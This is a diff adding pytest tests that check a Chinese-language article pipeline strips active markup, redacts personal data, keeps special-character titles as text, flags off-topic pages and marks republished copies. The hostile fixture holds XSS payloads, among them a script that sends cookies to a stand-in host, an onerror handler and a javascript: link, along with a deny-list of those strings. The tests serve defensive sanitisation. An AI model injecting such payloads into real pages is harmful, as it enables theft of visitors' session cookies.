@@ -1,0 +1,158 @@
+"""Sources nobody here has seen, through the whole pipeline to the built site: hostile
+markup, personal data, a title full of special characters, an off-topic page and a
+republished copy."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+import yaml
+from bs4 import BeautifulSoup
+
+from conftest import copy_project, run
+
+HOSTILE_TITLE = "信用卡逾期: 三天会怎样? #必看 | <注意> *别慌* [2024]"
+
+HOSTILE_PAGE = f"""{HOSTILE_TITLE}
+
+发布时间:2024-02-03
+
+信用卡逾期第三天,银行一般会先打电话<script>document.location='https://evil.example/'+document.cookie</script>提醒持卡人还款。
+<img src=x onerror="alert(1)">如果逾期超过90天,银行可能委托第三方催收机构,<a href="javascript:steal()">点这里</a>还会影响征信。
+催收员在短信里留了号码13912345678,还有 139 1234 5678 和身份证号110101199003071234,卡号 6222 0212 3456 7890 123。
+对催收有异议可以拨打银行客服95588,也可以打12378投诉,或者拨打400-820-8820咨询。
+<style>body{{display:none}}</style>征信记录会从欠款还清之日起保存5年。
+"""
+
+OFF_TOPIC = """家常红烧肉的做法
+
+发布时间:2024-03-01
+
+五花肉切块后先焯水,去掉血沫。
+锅里放少许油,加冰糖炒出糖色,再放入肉块翻炒上色。
+加入生抽、老抽和热水,小火慢炖一个小时,最后大火收汁即可。
+"""
+
+ORIGINAL = """美团月付逾期一周会怎样
+
+发布时间:2024-01-05
+
+美团月付逾期当天,APP会推送还款提醒,并开始计算逾期费用。
+逾期一周左右,客服可能会打电话询问还款安排。
+逾期时间较长时,逾期记录可能会被报送到征信系统。
+按时还清欠款后,可以继续正常使用美团月付。
+"""
+
+# the same article republished elsewhere, one sentence added
+COPY = ORIGINAL.replace("美团月付逾期一周会怎样", "美团月付逾期一周会怎么样？").replace(
+    "发布时间:2024-01-05", "发布时间:2024-02-20") + "本文转自网络。\n"
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = copy_project(tmp_path_factory.mktemp("world") / "repo")
+    sources = root / "data/sources"
+    (sources / "hostile-card.txt").write_text(HOSTILE_PAGE, encoding="utf-8")
+    (sources / "hongshaorou.txt").write_bytes(OFF_TOPIC.encode("gb18030"))
+    (sources / "meituan-original.txt").write_text(ORIGINAL, encoding="utf-8")
+    (sources / "meituan-copy.txt").write_text(COPY, encoding="utf-8")
+    result = run(root, "build")
+    assert result.returncode == 0, result.stdout + result.stderr
+    return root
+
+
+def _article(root: Path, aid: str) -> dict:
+    return yaml.safe_load((root / f"data/articles/{aid}.yml").read_text(encoding="utf-8"))
+
+
+def _everything(root: Path) -> str:
+    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
+                     for folder in ("data/articles", "data/topics", "docs/generated", "site")
+                     for p in (root / folder).rglob("*") if p.is_file() and p.suffix in (".yml", ".md", ".html", ".json"))
+
+
+def test_no_active_markup_reaches_data_or_site(site: Path) -> None:
+    data = "\n".join(p.read_text(encoding="utf-8") for p in (site / "data/articles").glob("*.yml"))
+    for needle in ("<script", "onerror", "javascript:", "<style", "document.cookie", "evil.example"):
+        assert needle not in data, needle
+    page = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml")
+    body = page.find("article")
+    assert not body.find_all(["script", "style", "img", "iframe"])
+    assert "evil.example" not in str(page) and "steal()" not in str(page)
+    assert "信用卡逾期第三天，银行一般会先打电话提醒持卡人还款。" in body.get_text()
+
+
+def test_personal_data_is_redacted_everywhere_public_numbers_kept(site: Path) -> None:
+    everything = _everything(site)
+    for personal in ("13912345678", "139 1234 5678", "110101199003071234", "6222 0212 3456 7890 123"):
+        assert personal not in everything, personal
+    text = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml").get_text()
+    assert "［手机号已隐去］" in text and "［身份证号已隐去］" in text and "［银行卡号已隐去］" in text
+    for public in ("95588", "12378", "400-820-8820"):
+        assert public in text, public
+    removed = _article(site, "hostile-card")["removed"]
+    assert {"rule": "personal-data", "text": "手机号 ×2"} in removed
+
+
+def test_a_title_with_special_characters_stays_text(site: Path) -> None:
+    article = _article(site, "hostile-card")
+    assert article["title"] == "信用卡逾期：三天会怎样？#必看 | <注意> *别慌* [2024]"
+    page = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml")
+    assert page.find("h1").get_text(strip=True).rstrip("#").strip() == article["title"]
+    assert article["title"] in page.title.get_text()
+    listing = (site / "site/articles/index.html").read_text(encoding="utf-8")
+    assert "&lt;注意&gt; *别慌* [2024]" in listing
+
+
+def test_an_off_topic_page_is_kept_but_makes_no_claims_and_no_page(site: Path) -> None:
+    article = _article(site, "hongshaorou")
+    assert article["relevant"] is False and "off-topic" in article["judgement"]
+    assert article["sections"], "the text is kept for writers"
+    assert not (site / "site/articles/hongshaorou").exists()
+    assert "hongshaorou" not in "\n".join(p.read_text(encoding="utf-8") for p in (site / "data/topics").glob("*.yml"))
+
+
+def test_a_republished_copy_adds_no_claims(site: Path) -> None:
+    copy = _article(site, "meituan-copy")
+    assert copy["duplicate_of"] == "meituan-original"
+    topic = (site / "data/topics/meituan-yuefu.yml").read_text(encoding="utf-8")
+    assert "meituan-original#" in topic and "meituan-copy#" not in topic
+    page = (site / "site/articles/meituan-copy/index.html").read_text(encoding="utf-8")
+    assert "这是一篇转载" in page and "../meituan-original/" in page
+
+
+def test_ingest_report_names_removals_and_judgements(site: Path) -> None:
+    result = run(site, "ingest", "--report")
+    assert result.returncode == 0
+    out = result.stdout
+    block = out[out.index("data/sources/hostile-card.txt"):].split("\n\n")[0]
+    assert "personal-data" in block and "active-markup" in block
+    assert "off-topic" in out[out.index("data/sources/hongshaorou.txt"):]
+    assert "duplicate of meituan-original" in out
+
+
+SEED_BOILERPLATE = ("相关内容", "相关推荐", "To Top", "打赏", "扫一扫", "发表回复", "评论列表", "暂无评论", "本文来自",
+                    "如若转载", "上一篇", "下一篇", "离婚", "锻炼", "肌肉酸痛", "抵押贷款与个人征信的关系解析")
+
+
+def test_seed_article_pages_hold_no_boilerplate_and_every_body_paragraph(built_site: Path) -> None:
+    from conftest import ROOT
+
+    for source in sorted((ROOT / "data/sources").glob("*.txt")):
+        aid = source.stem.replace("_", "-")
+        page = BeautifulSoup((built_site / f"articles/{aid}/index.html").read_text(encoding="utf-8"), "lxml")
+        text = page.find("article").get_text()
+        for marker in SEED_BOILERPLATE:
+            assert marker not in text, (aid, marker)
+        # every body line above the first boilerplate marker is on the page
+        body_lines = []
+        for line in source.read_text(encoding="utf-8").splitlines():
+            if re.match(r"^\s*(相关内容|本文来自|相关推荐)", line):
+                break
+            if len(line.strip()) >= 25:
+                body_lines.append(line.strip())
+        flat = re.sub(r"\W", "", text)
+        for line in body_lines:
+            assert re.sub(r"\W", "", line) in flat, (aid, line[:30])
